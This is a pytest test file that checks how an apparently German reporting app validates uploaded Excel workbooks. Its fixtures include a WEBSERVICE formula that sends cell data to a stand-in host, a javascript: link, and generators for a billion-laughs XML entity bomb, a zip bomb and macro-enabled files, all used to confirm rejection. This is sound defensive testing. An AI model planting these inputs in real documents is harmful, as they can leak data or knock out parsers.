# SPDX-FileCopyrightText: Leitstand maintainers
# SPDX-License-Identifier: EUPL-1.2
"""A sheet that cannot be taken is told with sheet and cell and what to do; nothing is written."""

import io
import itertools
import re
import time
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import PatternFill

from leitstand.steering.models import Answer
from leitstand.steering.services.sheets import SheetUndecided
from leitstand.steering.sheet import MAX_FILE_BYTES
from leitstand.steering.sheet.columns import STAMP
from leitstand.steering.sheet.rows import SheetRefused
from tests.steering.harbour import answered, duty, plan_stands, round_stands
from tests.steering.sheets import Edit, edited, previewed, put, taken, workbook

pytestmark = pytest.mark.django_db

STATE, ACCOUNT = "Stand der Umsetzung", "Was ist geschehen?"


@pytest.fixture(autouse=True)
def nothing_written(db: None) -> Iterator[None]:
    """An answer stands; what is refused leaves it as the only one."""
    plan_stands()
    round_stands()
    answered(duty("hafen.1.I", "werft"))
    yield
    assert Answer.objects.count() == 1


def at(sheet: str, cell: str, value: Any) -> Edit:
    def edit(book: Any) -> None:
        book[sheet][cell] = value

    return edit


def filled(sheet: str, **cells: Any) -> Edit:
    """A row of a list, filled in: by the letters of its columns."""

    def edit(book: Any) -> None:
        for name, value in cells.items():
            book[sheet][f"{name}4"] = value

    return edit


LONG = "x" * 4_001
# (edit, place, words told)
TROUBLES: dict[str, tuple[Edit, str, str]] = {
    "a formula": (at("Antworten", "H4", "=1+1"), "Antworten!H4", "Formel"),
    "a formula that reaches out": (
        at("Antworten", "H4", '=WEBSERVICE("https://x.example/"&A1)'),
        "Antworten!H4",
        "Formel",
    ),
    "an error value": (at("Antworten", "H5", "#REF!"), "Antworten!H5", "Fehlerwert"),
    "an unknown state": (
        at("Antworten", "F4", "fast fertig"),
        "Antworten!F4",
        "„fast fertig“ steht nicht zur Wahl. Möglich sind: nicht begonnen,",
    ),
    "a day that is none": (at("Antworten", "L4", "Ende Mai"), "Antworten!L4", "kein Tag"),
    "a text too long": (
        at("Antworten", "H4", LONG),
        "Antworten!H4",
        "4001 Zeichen, höchstens 4000",
    ),
    "a foreign measure": (at("Antworten", "A5", "hafen.2.I"), "Antworten!A5", "nichts gefragt"),
    "a key removed": (at("Antworten", "A4", None), "Antworten!A4", "fehlt die Kennung"),
    "a key twice": (at("Antworten", "A5", "hafen.1.I"), "Antworten!A5", "zweimal da"),
    "merged keys": (
        lambda book: book["Antworten"].merge_cells("A4:A5"),
        "Antworten!A4:A5",
        "verbunden",
    ),
    "merged answers": (
        lambda book: book["Antworten"].merge_cells("H4:I4"),
        "Antworten!H4:I4",
        "verbunden",
    ),
    "a milestone of nothing": (filled("Meilensteine", D="Neu"), "Meilensteine!A4", "fehlt die"),
    "a foreign milestone": (
        filled("Meilensteine", A="hafen.2.I", D="Neu"),
        "Meilensteine!A4",
        "nichts gefragt",
    ),
    "a milestone without a name": (
        filled("Meilensteine", A="hafen.1.I", E="30.09.2026"),
        "Meilensteine!D4",
        "fehlt: Name des Meilensteins",
    ),
    "an address that runs": (
        filled("Nachweise", A="hafen.1.I", D="Internetseite", E="x", F="javascript:alert(1)"),
        "Nachweise!D4",
        "https://",
    ),
    "evidence that leads nowhere": (
        filled("Nachweise", A="hafen.1.I", D="Dokument", E="Brief"),
        "Nachweise!D4",
        "wo man ihn findet",
    ),
    "evidence of no kind": (
        filled("Nachweise", A="hafen.1.I", E="Brief", F="https://x.example/"),
        "Nachweise!D4",
        "Art des Nachweises",
    ),
    "money that is none": (
        filled("Haushalt", A="hafen.1.I", D="1", E="Land", F=2026, G="viel"),
        "Haushalt!G4",
        "kein Betrag",
    ),
    "money without a year": (
        filled("Haushalt", A="hafen.1.I", D="1", E="Land", G=5),
        "Haushalt!F4",
        "Haushaltsjahr",
    ),
    "merged into nothing": (
        lambda book: (
            at("Antworten", "F4", "in anderer Maßnahme aufgegangen")(book),
            at("Antworten", "M4", "gibt.es.nicht")(book),
        ),
        "Antworten!M4",
        "keine andere Maßnahme",
    ),
}


@pytest.mark.parametrize("name", TROUBLES)
def test_what_cannot_be_taken_is_told_with_its_cell(name: str) -> None:
    edit, place, words = TROUBLES[name]
    content = edited(workbook(), edit)
    told = {(one.place, one.message) for one in previewed(content).troubles}
    assert any(where.startswith(place) and words in message for where, message in told), told
    with pytest.raises(SheetUndecided):
        taken(content)


def test_every_trouble_is_told_at_once() -> None:
    content = edited(workbook(), at("Antworten", "H4", "=1"), at("Antworten", "L5", "bald"))
    assert {one.place for one in previewed(content).troubles} == {"Antworten!H4", "Antworten!L5"}


def zipped(content: bytes, **changes: bytes | None) -> bytes:
    """The file with parts put in (names with "|" for "/"), for what no spreadsheet would write."""
    out = io.BytesIO()
    more = {name.replace("|", "/"): body for name, body in changes.items()}
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for entry in old.infolist():
            if entry.filename not in more:
                new.writestr(entry.filename, old.read(entry))
        for name, body in more.items():
            if body is not None:
                new.writestr(name, body)
    return out.getvalue()


def with_macro_type(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        kinds = archive.read("[Content_Types].xml")
    plain = b"spreadsheetml.sheet.main"
    assert plain in kinds
    macro = kinds.replace(
        b"openxmlformats-officedocument.spreadsheetml.sheet.main",
        b"ms-excel.sheet.macroEnabled.main",
    )
    return zipped(content, **{"[Content_Types].xml": macro})


def other_workbook() -> bytes:
    book = Workbook()
    book.worksheets[0].append(["Kennung", "Stand"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def huge(content: bytes) -> bytes:
    return zipped(content, **{"xl|media|a.bin": b"0" * (9 * 1024 * 1024)})


def entity_bomb(content: bytes) -> bytes:
    """A cell that says a thousand million letters (“billion laughs”)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        page = archive.read("xl/worksheets/sheet2.xml")
    names = "abcdefghi"
    rules = ['<!ENTITY a "ha!">'] + [
        f'<!ENTITY {after} "{f"&{name};" * 10}">' for name, after in itertools.pairwise(names)
    ]
    head = f"<?xml version='1.0'?><!DOCTYPE x [{''.join(rules)}]>".encode()
    cell = b'<row r="4"><c r="H4" t="inlineStr"><is><t>&i;</t></is></c></row>'
    body = page[page.index(b"<worksheet") :].replace(b"<sheetData>", b"<sheetData>" + cell, 1)
    return zipped(content, **{"xl|worksheets|sheet2.xml": head + body})


def copied_stamp(content: bytes) -> bytes:
    def edit(book: Any) -> None:
        text = book[STAMP]["A1"].value
        head, _mark, tail = text.partition(":")
        book[STAMP]["A1"] = f"{head[:-2]}{'AB' if head[-2:] != 'AB' else 'CD'}:{tail}"

    return edited(content, edit)


REFUSED: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "no workbook": (lambda _c: b"Sehr geehrte Damen und Herren", "keine Excel-Datei"),
    "nothing": (lambda _c: b"", "keine Excel-Datei"),
    "a zip of something": (lambda _c: zipped(b"PK\x05\x06" + bytes(18)), "keine Excel-Datei"),
    "an old or locked workbook": (
        lambda _c: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600),
        "Kennwort",
    ),
    "half a workbook": (lambda c: c[: len(c) // 2], "keine Excel-Datei"),
    "macros": (lambda c: zipped(c, **{"xl|vbaProject.bin": b"x"}), "Makros"),
    "a workbook made for macros": (with_macro_type, "Makros"),
    "another file behind it": (
        lambda c: zipped(c, **{"xl|externalLinks|externalLink1.xml": b"<x/>"}),
        "verknüpft",
    ),
    "a zip bomb": (huge, "zu groß"),
    "an XML bomb": (entity_bomb, "beschädigt"),
    "too large": (lambda _c: bytes(MAX_FILE_BYTES + 1), "höchstens 2 MB"),
    "another workbook": (lambda _c: other_workbook(), "neu herunterladen"),
    "a forged stamp": (copied_stamp, "neu herunterladen"),
    "no stamp": (lambda c: edited(c, lambda b: b.remove(b[STAMP])), "neu herunterladen"),
    "no answers": (
        lambda c: edited(c, lambda b: b.remove(b["Antworten"])),
        "Es fehlt das Blatt Antworten",
    ),
    "no key column": (
        lambda c: edited(c, lambda b: b["Antworten"].delete_cols(1)),
        "Auf dem Blatt „Antworten“ fehlt die Spalte „Kennung (nicht ändern)“",
    ),
    "a column twice": (
        lambda c: edited(c, lambda b: b["Antworten"].__setitem__("Z3", ACCOUNT)),
        "Antworten!Z3: Die Spalte „Was ist geschehen?“ gibt es zweimal",
    ),
    "another institution": (lambda _c: workbook("zoll"), "anderen Einrichtung"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_that_is_no_sheet_of_this_round_is_refused(name: str) -> None:
    spoil, words = REFUSED[name]
    with pytest.raises(SheetRefused, match=re.escape(words)) as refused:
        previewed(spoil(workbook()))
    assert "Traceback" not in str(refused.value)


def test_a_sheet_of_another_round_is_refused() -> None:
    round_stands("winter")
    with pytest.raises(SheetRefused, match="anderen Berichtsrunde: winter"):
        previewed(workbook(slug="winter"))


def test_a_hundred_thousand_rows_are_refused_quickly() -> None:
    content = workbook()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        page = archive.read("xl/worksheets/sheet3.xml")
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (number, number)
        for number in range(100, 100_100)
    )
    more = page.replace(b"</sheetData>", rows + b"</sheetData>")
    content = zipped(content, **{"xl|worksheets|sheet3.xml": more})
    start = time.process_time()
    with pytest.raises(SheetRefused, match=r"Mehr als 2000 Zeilen|zu groß"):
        previewed(content)
    assert time.process_time() - start < 5


@pytest.mark.parametrize("number", [b"1048577", b"99999999999"])
def test_a_row_that_no_spreadsheet_has_keeps_nobody_waiting(number: bytes) -> None:
    content = workbook()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        page = archive.read("xl/worksheets/sheet2.xml")
    row = b'<row r="' + number + b'"><c r="A' + number + b'"><v>1</v></c></row></sheetData>'
    spoilt = zipped(content, **{"xl|worksheets|sheet2.xml": page.replace(b"</sheetData>", row)})
    start = time.process_time()
    assert previewed(spoilt).troubles == ()
    assert time.process_time() - start < 5


def test_a_whole_column_of_coloured_blanks_is_no_trouble() -> None:
    def colour(book: Any) -> None:
        for number in range(1, 5_000):
            book["Antworten"].cell(number, 20).fill = PatternFill("solid", fgColor="FF0000")
        book["Antworten"].cell(900_000, 20).fill = PatternFill("solid", fgColor="FF0000")

    assert previewed(edited(workbook(), colour)).troubles == ()


def test_formulas_in_columns_of_ones_own_are_let_be_and_told() -> None:
    preview = previewed(
        edited(workbook(), at("Antworten", "O3", "Meine Notiz"), at("Antworten", "O4", "=1+1"))
    )
    assert preview.troubles == ()
    assert any("„Meine Notiz“ (Antworten!O3)" in note for note in preview.notes)


def test_what_looks_like_a_formula_goes_out_as_text() -> None:
    crane = duty("hafen.1.II", "werft")
    content = load_workbook(io.BytesIO(workbook()))
    assert crane.number == 0
    kinds = {
        cell.data_type for page in content.worksheets for row in page.iter_rows() for cell in row
    }
    assert "f" not in kinds


def test_more_than_forty_milestones_are_told() -> None:
    def fill(book: Any) -> None:
        for number in range(4, 48):
            book["Meilensteine"][f"A{number}"] = "hafen.1.I"
            book["Meilensteine"][f"D{number}"] = f"Schritt {number}"

    (trouble,) = previewed(edited(workbook(), fill)).troubles
    assert trouble.place == "Meilensteine, hafen.1.I"
    assert "40" in trouble.message


def test_a_budget_line_twice_is_told() -> None:
    def fill(book: Any) -> None:
        for number in (4, 5):
            for name, value in zip("ADEF", ("hafen.1.I", "1", "Land", 2026), strict=True):
                book["Haushalt"][f"{name}{number}"] = value

    (trouble,) = previewed(edited(workbook(), fill)).troubles
    assert (trouble.place, "zweimal" in trouble.message) == ("Haushalt!A5", True)


def test_the_bad_sheets_are_bad_because_of_what_was_done_to_them() -> None:
    assert previewed(workbook()).troubles == ()
    assert previewed(edited(workbook(), put("Antworten", STATE, 0, "ruht"))).troubles == ()
